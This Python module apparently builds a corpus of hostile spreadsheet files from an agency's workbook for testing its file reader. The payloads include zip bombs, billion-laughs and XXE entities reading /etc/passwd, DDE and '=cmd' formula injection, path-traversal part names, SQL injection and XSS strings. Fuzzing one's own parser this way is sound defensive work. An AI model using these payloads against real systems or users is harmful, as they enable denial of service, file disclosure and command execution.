"""Files meant to harm whoever opens them, each made from a workbook that an agency was sent."""

import io
import re
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

Parts = dict[str, bytes]
Attack = Callable[[Parts], Parts | bytes]

SHEET, HIDDEN = "xl/worksheets/sheet2.xml", "xl/worksheets/sheet7.xml"
STRINGS, BOOK, RELS, STYLES = "xl/sharedStrings.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml"
_LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(9))
    + b"]>"
)
_FILE = b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_NET = b'<!DOCTYPE x [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>'
_PARAMETER = b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>'


def parts_of(path: Path) -> Parts:
    """Return the parts of a workbook by their names."""
    with zipfile.ZipFile(path) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def packed(parts: Parts | bytes) -> bytes:
    """Return parts as the bytes of a workbook; bytes stay as they are."""
    if isinstance(parts, bytes):
        return parts
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def _add(name: str, content: bytes) -> Attack:
    return lambda own: {**own, name: content}


def _drop(name: str) -> Attack:
    return lambda own: {kept: content for kept, content in own.items() if kept != name}


def _declared(part: str, doctype: bytes, use: bytes = b"") -> Attack:
    """Put a document type before the root of a part, and a use of its entity into its first text."""

    def attack(own: Parts) -> Parts:
        head, _, rest = own[part].partition(b"?>")
        content = head + b"?>" + doctype + rest
        return {**own, part: re.sub(rb"(<t[^>]*>)", rb"\1" + use, content, count=1)}

    return attack


def _replaced(part: str, pattern: bytes, by: bytes | Callable[[re.Match[bytes]], bytes], count: int = 1) -> Attack:
    def attack(own: Parts) -> Parts:
        content, done = re.subn(pattern, by, own[part], count=count)
        assert done, (part, pattern)
        return {**own, part: content}

    return attack


def _cells(xml: bytes) -> Attack:
    """Add rows far below those of the form."""
    return _replaced(SHEET, rb"</sheetData>", xml + b"</sheetData>")


def _text_cell(inner: bytes) -> Attack:
    """Put something else in the place of a known row's title (column C of the first row of data)."""
    return _replaced(SHEET, rb'<c r="C6"[^>]*>.*?</c>', b'<c r="C6"' + inner + b"</c>")


def _sheet_called(name: bytes) -> Attack:
    return _replaced(BOOK, rb'name="Lists"', b'name="' + name + b'"')


def _relation(target: bytes, mode: bytes = b"") -> Attack:
    return _replaced(RELS, rb'Target="worksheets/sheet2.xml"', b'Target="' + target + b'"' + mode)


def _utf16(own: Parts) -> Parts:
    plain = own[STRINGS].decode().replace("UTF-8", "UTF-16")
    head, _, rest = plain.partition("?>")
    return {**own, STRINGS: (head + "?>" + _LAUGHS.decode() + rest).encode("utf-16")}


def _two_of_one_name(own: Parts) -> bytes:
    target = io.BytesIO(packed(own))
    import warnings

    with warnings.catch_warnings(), zipfile.ZipFile(target, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(SHEET, b"<worksheet/>")
    return target.getvalue()


def _lying_size(own: Parts) -> bytes:
    """Say in the directory that the sheet is a few bytes long."""
    content = bytearray(packed(own))
    at = content.rindex(SHEET.encode()) - 46
    content[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(content)


def _overlapping(own: Parts) -> bytes:
    """Point all entries of the directory at the same bytes."""
    content = bytearray(packed(own))
    at = content.find(b"PK\x01\x02")
    first = content[at + 42 : at + 46]
    while at >= 0:
        content[at + 42 : at + 46] = first
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def _by_method(method: int) -> Attack:
    """Pack the parts by a method that spreadsheets do not use."""

    def attack(own: Parts) -> bytes:
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", method) as archive:
            for name, content in own.items():
                archive.writestr(name, content)
        return target.getvalue()

    return attack


def _in_directory(at: int, content: bytes) -> Attack:
    """Put other bytes at a place of the directory's entry for the sheet: https://pkware.cachefly.net (4.3.12)."""

    def attack(own: Parts) -> bytes:
        whole = bytearray(packed(own))
        entry = whole.rindex(SHEET.encode()) - 46
        whole[entry + at : entry + at + len(content)] = content
        return bytes(whole)

    return attack


def _other_name_inside(own: Parts) -> bytes:
    """Give the sheet another name where it lies than in the directory."""
    return packed(own).replace(SHEET.encode(), b"xl/worksheets/sheetX.xml", 1)


_ZEROS = bytes(300_000_000)

BOMBS: Mapping[str, Attack] = {
    "a sheet that unpacks a thousandfold": lambda own: {**own, SHEET: own[SHEET] + b" " * 300_000_000},
    "styles that unpack a thousandfold": lambda own: {**own, STYLES: own[STYLES] + b" " * 200_000_000},
    "a picture nobody needs of 300 MB": lambda own: {**own, "xl/media/image1.png": _ZEROS},
    "an archive in the archive": lambda own: {**own, "xl/inner.zip": packed({"x": _ZEROS})},
    "six thousand parts": lambda own: {**own, **{f"xl/extra/{at}.xml": b"<x/>" for at in range(6000)}},
    "a million texts": _replaced(STRINGS, rb"</sst>", b"<si><t>x</t></si>" * 1_000_000 + b"</sst>"),
    "a text of 30 million letters": _replaced(STRINGS, rb"</sst>", b"<si><t>" + b"x" * 30_000_000 + b"</t></si></sst>"),
    "ten thousand nested elements": _replaced(STRINGS, rb"</sst>", b"<r>" * 10_000 + b"</r>" * 10_000 + b"</sst>"),
    "two hundred thousand merged ranges": _replaced(
        SHEET,
        rb"</sheetData>",
        b"</sheetData><mergeCells>"
        + b"".join(b'<mergeCell ref="A%d:B%d"/>' % (row, row) for row in range(1, 200_000))
        + b"</mergeCells>",
    ),
    "entries that lie on one another": _overlapping,
    "a size that lies": _lying_size,
    "a size beyond all sizes": _in_directory(20, b"\xff" * 8),
    "a place beyond the end": _in_directory(42, b"\xfe\xff\xff\xff"),
    "a part that is said to be locked": _in_directory(8, b"\x01\x00"),
    "a part packed by no known method": _in_directory(10, b"\x63\x00"),
    "parts packed by LZMA": _by_method(zipfile.ZIP_LZMA),
    "parts packed by BZIP2": _by_method(zipfile.ZIP_BZIP2),
    "a part that bears two names": _other_name_inside,
    "another archive behind it": lambda own: packed(own) + packed({"content.xml": b"<x/>"}),
    "a hundred thousand styles": _replaced(STYLES, rb"</cellXfs>", b'<xf numFmtId="14"/>' * 100_000 + b"</cellXfs>"),
    "a form of numbers without end": _replaced(
        STYLES,
        rb"<fonts",
        b'<numFmts count="1"><numFmt numFmtId="200" formatCode="' + b"[" * 200_000 + b'"/></numFmts><fonts',
    ),
    "a text in a hundred thousand pieces": _replaced(
        STRINGS, rb"</sst>", b"<si>" + b"<r><t>x</t></r>" * 100_000 + b"</si></sst>"
    ),
}
ENTITIES: Mapping[str, Attack] = {
    "a billion laughs in the texts": _declared(STRINGS, _LAUGHS, b"&j;"),
    "a billion laughs in a sheet": _declared(SHEET, _LAUGHS, b"&j;"),
    "a billion laughs in the workbook": _declared(BOOK, _LAUGHS),
    "a billion laughs in the relations": _declared(RELS, _LAUGHS),
    "a billion laughs in two-byte letters": _utf16,
    "a file of the system in the texts": _declared(STRINGS, _FILE, b"&x;"),
    "a file of the system in a sheet": _declared(SHEET, _FILE, b"&x;"),
    "an address of the network in the texts": _declared(STRINGS, _NET, b"&x;"),
    "a definition fetched from outside": _declared(STRINGS, _PARAMETER),
    "an inclusion of a file": _replaced(
        STRINGS,
        rb"<si>",
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><si>',
    ),
}
DIMENSIONS: Mapping[str, Attack] = {
    "a sheet that says it is full": _replaced(SHEET, rb"<sheetViews>", b'<dimension ref="A1:XFD1048576"/><sheetViews>'),
    "a cell in the last corner": _cells(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "a row beyond all rows": _cells(b'<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>'),
    "a column beyond all columns": _cells(b'<row r="999"><c r="ZZZZZZ999"><v>1</v></c></row>'),
    "a row of a negative number": _cells(b'<row r="-5"><c r="A-5"><v>1</v></c></row>'),
    "a cell without an address": _cells(b"<row><c><v>1</v></c></row>"),
    "a number with a million digits": _text_cell(b"><v>" + b"9" * 1_000_000 + b"</v>"),
    "a number that is none": _text_cell(b"><v>nan</v>"),
    "a date ten thousand years away": _text_cell(b' s="1"><v>1e15</v>'),
    "a day before all days": _text_cell(b' s="1"><v>-99999</v>'),
    "days counted from 1904": _replaced(BOOK, rb"<workbookPr", b'<workbookPr date1904="1"'),
    "a row that comes twice": _cells(b'<row r="6"><c r="C6"><v>1</v></c></row>'),
    "rows in reverse": _cells(b'<row r="3"><c r="C3"><v>1</v></c></row><row r="1"><c r="A1"><v>2</v></c></row>'),
}
STRING_LIES: Mapping[str, Attack] = {
    "four billion texts promised": _replaced(
        STRINGS, rb'uniqueCount="\d+"', b'count="4294967295" uniqueCount="4294967295"'
    ),
    "no text promised": _replaced(STRINGS, rb'uniqueCount="\d+"', b'uniqueCount="0"'),
    "a text beyond the last": _text_cell(b' t="s"><v>99999999</v>'),
    "a text before the first": _text_cell(b' t="s"><v>-1</v>'),
    "a text by a word": _text_cell(b' t="s"><v>first</v>'),
    "no texts at all": _drop(STRINGS),
    "texts that are no XML": _add(STRINGS, b"\x00\x01\x02 not xml"),
    "half a letter": _text_cell(b' t="inlineStr"><is><t>&#xD800;</t></is>'),
    "letters that control": _text_cell(b' t="inlineStr"><is><t>_x0000__x0007__x000A__x001B_[2J</t></is>'),
    "letters that turn the line around": _text_cell(' t="inlineStr"><is><t>\u202egnissiM\u2066x</t></is>'.encode()),
    "a thousand marks on one letter": _text_cell(
        b' t="inlineStr"><is><t>a' + "\u0301".encode() * 30_000 + b"</t></is>"
    ),
    "a title of several lines": _text_cell(b' t="inlineStr"><is><t>one&#10;two: all is well.</t></is>'),
    "a heading of several lines": _replaced(STRINGS, rb">Comments</t>", b">one&#10;two: all is well.</t>"),
    "a date of several lines": _text_cell(b' t="d"><v>2026-01-01\ntwo: all is well.</v>'),
    "words that format": _text_cell(b' t="inlineStr"><is><t>{0.__class__} %s %n ${PATH} {{x}}</t></is>'),
    "words of a query": _text_cell(b' t="inlineStr"><is><t>\'); DROP TABLE activity; --</t></is>'),
    "words of a page": _text_cell(b' t="inlineStr"><is><t>&lt;img src=x onerror=alert(1)&gt;</t></is>'),
}
FORMULAS: Mapping[str, Attack] = {
    "a command in a title": _text_cell(b" t=\"inlineStr\"><is><t>=cmd|' /c calc'!A1</t></is>"),
    "a link in a title": _text_cell(b' t="str"><f>HYPERLINK("http://127.0.0.1:9/"&amp;A1,"x")</f><v>x</v>'),
    "a fetch in a title": _text_cell(b' t="str"><f>WEBSERVICE("http://127.0.0.1:9/")</f><v>x</v>'),
    "a formula without a result": _text_cell(b"><f>1+1</f>"),
    "a reference to another file": _text_cell(b' t="str"><f>[1]Sheet1!A1</f><v>x</v>'),
    "a formula over all cells": _text_cell(b'><f t="array" ref="A1:XFD1048576">SUM(A1)</f><v>1</v>'),
    "a shared formula over all cells": _text_cell(b'><f t="shared" ref="A1:XFD1048576" si="0">A1</f><v>1</v>'),
    "names that name one another": _replaced(
        BOOK,
        rb"<definedNames>",
        b'<definedNames><definedName name="za">zb</definedName><definedName name="zb">za</definedName>',
    ),
    "a title that begins with an at sign": _text_cell(b' t="inlineStr"><is><t>@SUM(1+9)*cmd</t></is>'),
}
LINKS: Mapping[str, Attack] = {
    "a sheet that is elsewhere": _relation(b"http://127.0.0.1:9/sheet.xml", b' TargetMode="External"'),
    "a sheet in the system's files": _relation(b"file:///etc/passwd"),
    "a sheet outside the archive": _relation(b"../../../../../../etc/passwd"),
    "a part of another workbook": _add("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
    "a source of data": _add("xl/connections.xml", b'<connections><connection id="1" type="4"/></connections>'),
    "macros": _add("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "macros that are said to be there": _replaced(
        "[Content_Types].xml",
        rb"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main\+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ),
    "an embedded program": _add("xl/embeddings/oleObject1.bin", b"MZ" + bytes(600)),
    "a sheet that is the workbook": _relation(b"workbook.xml"),
    "a sheet that is the texts": _relation(b"sharedStrings.xml"),
    "a sheet that is its own relations": _relation(b"_rels/workbook.xml.rels"),
    "relations that lead to themselves": _add(
        "_rels/.rels",
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        b'Target="_rels/.rels"/></Relationships>',
    ),
    "an exchange of data with a program": _add(
        "xl/externalLinks/externalLink1.xml",
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
        b'ddeTopic="/c calc"><ddeItems><ddeItem name="x" advise="1"/></ddeItems></ddeLink></externalLink>',
    ),
    "a part of one's own XML": _add("customXml/item1.xml", b"<root>" + b"<a>secret</a>" * 1000 + b"</root>"),
    "a question asked of the web": _add("xl/queryTables/queryTable1.xml", b'<queryTable name="x" connectionId="1"/>'),
}
NAMES: Mapping[str, Attack] = {
    "a part above the archive": _add("../../evil.xml", b"<x/>"),
    "a part at the root": _add("/etc/cron.d/evil", b"x"),
    "a part on a drive": _add("C:\\Windows\\evil.dll", b"x"),
    "a part whose name goes back by other strokes": _add("xl\\..\\..\\evil.xml", b"<x/>"),
    "two parts of one name": _two_of_one_name,
    "a sheet named after a path": _sheet_called(b"../../../etc/passwd"),
    "a sheet whose name breaks the line": _sheet_called(b"one&#10;two: all is well."),
    "a sheet named as markup": _sheet_called(b"&lt;script&gt;alert(1)&lt;/script&gt;"),
    "two sheets of one name": _sheet_called(b"Activity"),
    "a sheet without a name": _sheet_called(b""),
    "a sheet whose name turns the line around": _sheet_called("\u202eytivitcA".encode()),
    "a sheet whose name is very long": _sheet_called(b"x" * 100_000),
    "the sheet of services put out of sight": _replaced(
        BOOK, rb'(name="Activity"[^>]*?)/>', rb'\1 state="veryHidden"/>'
    ),
}
ATTACKS: Mapping[str, Attack] = {
    **BOMBS, **ENTITIES, **DIMENSIONS, **STRING_LIES, **FORMULAS, **LINKS, **NAMES,
}  # fmt: skip
